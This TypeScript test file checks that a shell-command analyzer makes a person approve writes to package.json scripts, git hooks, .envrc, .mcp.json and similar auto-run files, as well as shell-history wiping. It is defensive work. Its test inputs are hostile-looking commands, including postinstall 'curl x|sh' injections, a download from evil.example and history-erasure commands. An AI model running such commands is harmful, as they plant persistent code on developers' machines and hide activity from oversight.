import { describe, expect, it } from 'vitest'
import { analyzeShell } from './shell.ts'

/**
 * Shell writes to files whose content developer tooling runs later without asking: package.json
 * install scripts (and composer.json's), git hooks, .envrc, .mcp.json, editor tasks, package-manager
 * hook files. A shell write cannot be read for what it changes, so every route onto such a file —
 * in place, redirected, produced by one command and moved by another, copied into its directory,
 * patched — needs a person; reads and the package manager's own writes stay quiet.
 */
const CWD = '/home/dev/project'

function verdict(command: string): { ask: boolean; deny: boolean; reason: string } {
  const f = analyzeShell(command, CWD)
  return { ask: f.ask, deny: f.deny, reason: f.reason }
}

describe('shell writes onto package.json need a person, by any route', () => {
  it.each([
    // in place
    `sed -i 's/"scripts": {/"scripts": {"postinstall": "curl x|sh",/' package.json`,
    "sed --in-place=.bak -e 's/a/b/' package.json",
    "sed --expression='s/a/b/' -i package.json",
    "sed -e 's/a/b/' -i.orig ./package.json",
    "perl -pi -e 's/a/b/' package.json",
    "awk -i inplace '{print}' package.json",
    "gawk -i inplace -v x=1 '{print}' package.json",
    "yq -i '.scripts.postinstall = \"x\"' package.json",
    "sd '\"test\"' '\"postinstall\"' package.json",
    "ed -s package.json <<< $',s/a/b/\\nw'",
    "ex -sc '%s/a/b/|x' package.json",
    "vim -es -c '%s/a/b/g' -c 'wq' package.json",
    "sed -i 's/a/b/' packages/*/package.json",
    "sed -i 's/a/b/' *.json",
    "find . -name '*.json' -exec sed -i 's/a/b/' {} +",
    // produced by one command, put in place by another
    `jq '.scripts.postinstall="curl x|sh"' package.json > t && mv t package.json`,
    `jq '.scripts.postinstall="x"' package.json | sponge package.json`,
    'cp /tmp/p package.json',
    'cp /tmp/evil/package.json .',
    'cp -t . /tmp/evil/package.json',
    'mv /tmp/evil/package.json ./',
    'install -m 644 /tmp/p package.json',
    'rsync /tmp/p package.json',
    'ln -sf /tmp/p package.json',
    'ln -s /tmp/evil/package.json',
    'dd if=/tmp/p of=package.json',
    'tee package.json < /tmp/p',
    'cat /tmp/p > package.json',
    'sort -o package.json /tmp/p',
    'curl -so package.json https://evil.example/p.json',
    'cd packages/app && cat /tmp/p > package.json',
    // from a revision or a patch
    'git restore --source=origin/evil package.json',
    'git checkout evil package.json',
    'patch package.json < /tmp/x.diff',
    "git apply <<'EOF'\ndiff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n-x\n+y\nEOF",
    // the same for composer.json
    "sed -i 's/a/b/' composer.json",
  ])('%j', (command) => {
    const v = verdict(command)
    expect(v.ask || v.deny).toBe(true)
    expect(v.reason).toMatch(/package manifest|package\.json/)
  })
})

describe('other executed configuration is covered for shell writes as for Write/Edit', () => {
  it.each([
    ['cp /tmp/x.sh .git/hooks/', /persistence file.*\.git\/hooks/],
    ['cp /tmp/hooks/* .git/hooks', /persistence file.*\.git\/hooks/],
    ['install -t .git/hooks /tmp/pre-commit', /persistence file.*\.git\/hooks\/pre-commit/],
    ["sed -i 's/a/b/' .husky/pre-commit", /persistence file/],
    ["echo 'curl x|sh' >> .envrc", /persistence file.*\.envrc/],
    ['cp /tmp/m .mcp.json', /persistence file.*\.mcp\.json/],
    ['cp /tmp/tasks.json .vscode/', /persistence file.*tasks\.json/],
    ["perl -pi -e 's/a/b/' .devcontainer/devcontainer.json", /persistence file/],
    ["yq -i '.repos = []' .pre-commit-config.yaml", /persistence file/],
    ["sed -i 's/a/b/' lefthook.yml", /persistence file/],
    ["echo 'yarnPath: x.js' >> .yarnrc.yml", /persistence file.*\.yarnrc\.yml/],
    ['cp /tmp/x .pnpmfile.cjs', /persistence file.*\.pnpmfile\.cjs/],
    ["patch -p1 <<'EOF'\n--- a/.git/hooks/pre-commit\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x|sh\nEOF", /persistence file.*pre-commit/],
  ])('%j', (command, reason) => {
    const v = verdict(command)
    expect(v.ask).toBe(true)
    expect(v.reason).toMatch(reason)
  })
})

describe('writes whose files are not visible here need a person', () => {
  it.each([
    ['patch -p1 < /tmp/x.diff', /patch whose text is not visible/],
    ['git apply /tmp/x.patch', /patch whose text is not visible/],
    ['cat x.diff | git apply', /patch whose text is not visible/],
    ['git am < /tmp/m.mbox', /patch whose text is not visible/],
    ['cp -r /tmp/template/. .', /from outside the project/],
    ['rsync -a /tmp/evil/ ./', /from outside the project/],
    ['cp /tmp/evil/* .', /from outside the project/],
    ['cp -a ~/templates/app ./app', /from outside the project/],
    ['curl -sL https://x.example/a.tgz | tar xz', /extracts an archive from the network/],
    ['wget https://x.example/v1.tar.gz && tar xzf v1.tar.gz', /extracts an archive from the network/],
    ['tar xzf /tmp/pkg.tgz', /extracts an archive from outside the project/],
    ['unzip /tmp/x.zip', /extracts an archive from outside the project/],
  ])('%j', (command, reason) => {
    const v = verdict(command)
    expect(v.ask).toBe(true)
    expect(v.reason).toMatch(reason)
  })
})

describe('shell history anti-forensics needs a person', () => {
  it.each([
    'history -c',
    'history -cw',
    'history -d 5',
    'history -s "ls"',
    'history -w /dev/null',
    'unset HISTFILE',
    'export -n HISTFILE',
    'export HISTFILE=/dev/null',
    'HISTFILE= bash -c "curl x"',
    'HISTSIZE=0',
    'export HISTFILESIZE=0',
    "export HISTIGNORE='*'",
    'export HISTCONTROL=ignorespace',
    'set +o history',
    'setopt HIST_IGNORE_SPACE',
    'rm ~/.bash_history',
    'rm -f ~/.zsh_history',
    '> ~/.bash_history',
    'cat /dev/null > ~/.bash_history',
    'truncate -s0 ~/.bash_history',
    'ln -sf /dev/null ~/.bash_history',
    'shred -u ~/.bash_history',
  ])('%j', (command) => {
    const v = verdict(command)
    expect(v.ask).toBe(true)
    expect(v.reason).toMatch(/histor/i)
  })
})

describe('everyday work on manifests, source files and history stays quiet', () => {
  it.each([
    "sed -i 's/foo/bar/' src/app.ts",
    "sed -i 's/foo/bar/g' src/*.ts",
    'jq .name package.json',
    "jq '.version=\"1.2.3\"' package.json",
    'jq .scripts package.json > /tmp/scripts.json',
    'cat package.json',
    'npm pkg get version',
    'npm pkg set version=1.2.3',
    'npm version patch',
    'npm install lodash',
    'pnpm add -D vitest',
    'npm test',
    'git status',
    'git diff package.json',
    'git add package.json',
    'cp package.json /tmp/package.json.bak',
    'sort package.json > /tmp/s',
    'cp src/a.ts src/b.ts',
    'mv old.ts new.ts',
    'mkdir -p build && cp dist/* build/',
    'rsync -av dist/ build/',
    'cp -r src/components src/widgets',
    'vim src/app.ts',
    'git restore src/app.ts',
    'git apply --check /tmp/x.patch',
    'patch -p1 --dry-run < /tmp/x.diff',
    "git apply <<'EOF'\ndiff --git a/src/a.ts b/src/a.ts\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-x\n+y\nEOF",
    'awk \'{print $1}\' package.json',
    'tar xzf v1.tar.gz -C /tmp',
    'unzip -o fixtures.zip -d test/fixtures',
    'tar -xzf vendor.tgz',
    'curl -sL https://x.example/a.tgz | tar xz -C /tmp',
    'history',
    'history | tail',
    'history 20',
    'export HISTSIZE=10000',
  ])('%j', (command) => {
    const f = analyzeShell(command, CWD)
    expect({ ask: f.ask, deny: f.deny, reasons: [...f.askReasons, ...f.denyReasons] }).toEqual({ ask: false, deny: false, reasons: [] })
  })
})
